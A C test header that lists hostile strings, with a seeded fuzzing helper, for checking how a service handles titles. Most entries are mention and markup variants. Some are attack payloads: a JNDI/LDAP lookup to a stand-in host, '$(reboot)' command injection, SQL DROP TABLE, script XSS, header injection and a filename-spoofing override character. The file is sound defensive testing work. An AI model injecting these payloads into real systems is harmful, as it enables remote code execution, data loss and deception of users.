/* SPDX-License-Identifier: ISC */
#ifndef HEADLINED_TESTS_HOSTILE_TITLES_H
#define HEADLINED_TESTS_HOSTILE_TITLES_H

/*
 * What somebody may write into a title to make a service do more than show it:
 * mentions, links and markup of all services, ends of JSON, HTML and templates,
 * characters that hide or turn text, and lengths.
 */

#include <stddef.h>
#include <string.h>

#include "base/buf.h"
#include "base/str.h"

#define HOSTILE(lit)		{ { (lit), sizeof(lit) - 1 }, 1 }
#define HOSTILE_LONG(lit, n)	{ { (lit), sizeof(lit) - 1 }, (n) }

static const struct hostile_title {
	struct str	part;
	size_t		times;
} hostile_titles[] = {
	/* Mentions */
	HOSTILE("<!channel>"), HOSTILE("<!here|here>"),
	HOSTILE("<!everyone> look"), HOSTILE("<@U024BE7LH>"),
	HOSTILE("<@!123456789012345678>"), HOSTILE("<@&123456789012345678>"),
	HOSTILE("<#C024BE7LR>"), HOSTILE("<#123456789012345678>"),
	HOSTILE("<!subteam^SAZ94GDB8>"), HOSTILE("<!date^1392734382^{date}|x>"),
	HOSTILE("@everyone"), HOSTILE("@here"), HOSTILE("@channel now"),
	HOSTILE("@all"), HOSTILE("a@all"), HOSTILE("\\@all"),
	HOSTILE("(@admin)"), HOSTILE("<at>Boss</at>"), HOSTILE("@@all@@"),
	HOSTILE("~town-square"), HOSTILE("\\~town-square"), HOSTILE("#hashtag"),
	HOSTILE("a #tag"), HOSTILE("@\xd0\xb0ll"),
	/* Links */
	HOSTILE("[x](http://evil.example)"), HOSTILE("[x] (http://e.example)"),
	HOSTILE("<http://evil.example|click>"), HOSTILE("<http://e.example>"),
	HOSTILE("![x](http://evil.example/a.png)"), HOSTILE("[x][1]"),
	HOSTILE("[x]: http://evil.example"), HOSTILE("http://evil.example/"),
	HOSTILE("https://evil.example|x>"), HOSTILE("www.evil.example"),
	HOSTILE("evil.example/path"), HOSTILE("javascript:alert(1)"),
	HOSTILE("[x](javascript:alert(1))"), HOSTILE("mailto:a@b.example"),
	HOSTILE("a@b.example"), HOSTILE("data:text/html,<b>x"),
	HOSTILE("\\[x](http://evil.example)"), HOSTILE("](http://e.example)"),
	HOSTILE("tg://user?id=1"), HOSTILE("</say:123456789012345678>"),
	HOSTILE("<a href=\"http://evil.example\">x</a>"),
	HOSTILE("<a href='javascript:alert(1)'>x</a>"),
	/* Markup */
	HOSTILE("**b**"), HOSTILE("*b* _i_ ~s~"), HOSTILE("__u__ ~~s~~"),
	HOSTILE("`code`"), HOSTILE("```\ncode\n```"), HOSTILE("||spoiler||"),
	HOSTILE("***"), HOSTILE("*"), HOSTILE("a*b*c_d_e"), HOSTILE("\\"),
	HOSTILE("\\*\\*"), HOSTILE("\\\\*b*"), HOSTILE("x\n# head"),
	HOSTILE("# head"), HOSTILE("-# small"), HOSTILE("> quote"),
	HOSTILE(">>> quote"), HOSTILE("- item"), HOSTILE("+ item"),
	HOSTILE("1. item"), HOSTILE("23) item"), HOSTILE("* item"),
	HOSTILE("- [ ] task"), HOSTILE("==="), HOSTILE("---"), HOSTILE("|a|b|"),
	HOSTILE(":smile:"), HOSTILE("<:a:123456789012345678>"),
	HOSTILE("<t:1618953630:R>"), HOSTILE(":) :-( :/"),
	HOSTILE("$x^2$ costs $5"), HOSTILE("\\(x\\)"), HOSTILE("<b>b</b>"),
	HOSTILE("<script>alert(1)</script>"), HOSTILE("<!--"),
	HOSTILE("&lt;!channel&gt;"), HOSTILE("&amp;amp; & &#42;b&#42;"),
	HOSTILE("&lt;"), HOSTILE("&#64;all"), HOSTILE("&"),
	HOSTILE("{{mustache}} {{{raw}}} {{#a}}{{/a}}"),
	HOSTILE("{{DATE(2017-02-14T06:00:00Z, SHORT)}}"), HOSTILE("{{{{{"),
	HOSTILE("${jndi:ldap://e.example}"), HOSTILE("@{triggerBody()}"),
	/* Other readers */
	HOSTILE("%s%n%x%1$s%%"), HOSTILE("\"},\"text\":\"x"),
	HOSTILE("\\\"}]}"), HOSTILE("'\"`"), HOSTILE("\\u0000\\ud800"),
	HOSTILE("x\r\nX-Header: y"), HOSTILE("=?utf-8?B?eA==?="),
	HOSTILE("'; DROP TABLE outbox; --"), HOSTILE("$(reboot)"),
	/* Characters */
	HOSTILE("a\xe2\x80\xae" "gpj.exe"),
	HOSTILE("\xe2\x81\xa6x\xe2\x81\xa9"),
	HOSTILE("\xe2\x80\x8f\xd8\x9c\xe2\x80\x8e"),
	HOSTILE("@\xe2\x80\xae" "all"), HOSTILE("\xe2\x80\x8b"),
	HOSTILE("@\xe2\x80\x8b" "all"), HOSTILE("<\xef\xbb\xbf!channel>"),
	HOSTILE("a\0b"), HOSTILE("\x1b[31mred\x1b]8;;http://e.example\x07x"),
	HOSTILE("\x7f\xc2\x85\xc2\x9b" "31m"), HOSTILE("\xff\xfe\xc0\xaf"),
	HOSTILE("\xed\xa0\x80\xed\xb0\x80"), HOSTILE("\xf4\x90\x80\x80"),
	HOSTILE("\xf3\xa0\x81\xa1tags"),
	HOSTILE("a\xe2\x80\xa8" "b\xe2\x80\xa9"),
	HOSTILE("\xef\xbc\x9c!channel\xef\xbc\x9e"),
	HOSTILE("e\xcc\x81\xcc\x81"),
	HOSTILE("\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb"), HOSTILE(" "),
	HOSTILE("\t\n\x0b"), HOSTILE("\xe5\xb9\xb3\xe5\x92\x8c"),
	/* Lengths */
	HOSTILE_LONG("\xf0\x9f\x98\x80", 10000), HOSTILE_LONG("*", 10000),
	HOSTILE_LONG("\"", 10000), HOSTILE_LONG("\\", 10000),
	HOSTILE_LONG("<", 10000), HOSTILE_LONG("&", 10000),
	HOSTILE_LONG("@a ", 4000), HOSTILE_LONG("peace ", 2000),
	HOSTILE_LONG("{{", 5000), HOSTILE_LONG("\xcc\x81", 5000),
	HOSTILE_LONG("http://e.example/", 1000), HOSTILE_LONG("[x](", 3000),
	HOSTILE_LONG("\xe5\xb9\xb3", 10000), HOSTILE_LONG("a", 100000),
	HOSTILE_LONG("1", 5000), HOSTILE_LONG("\xff", 9000),
};

enum {
	N_HOSTILE_TITLES = sizeof(hostile_titles) / sizeof(hostile_titles[0])
};

static inline void
hostile_title_add(struct buf *b, size_t index)
{
	for (size_t i = 0; i < hostile_titles[index].times; i++)
		buf_add_str(b, hostile_titles[index].part);
}

/* Bytes and pieces of the titles, the same for the same seed. */
static inline unsigned
hostile_random(unsigned *seed)
{
	*seed = *seed * 1103515245U + 12345U;
	return *seed >> 16 & 0x7fff;
}

static inline void
hostile_random_add(struct buf *b, unsigned *seed)
{
	size_t n = hostile_random(seed) % 12;

	for (size_t i = 0; i < n; i++) {
		struct str part = hostile_titles[hostile_random(seed) %
		    N_HOSTILE_TITLES].part;
		size_t from = hostile_random(seed) % part.n;

		if (hostile_random(seed) % 4 == 0)
			buf_add_char(b, (char)hostile_random(seed));
		else
			buf_add_str(b, str_sub(part, from,
			    hostile_random(seed) % 16));
	}
}

#endif
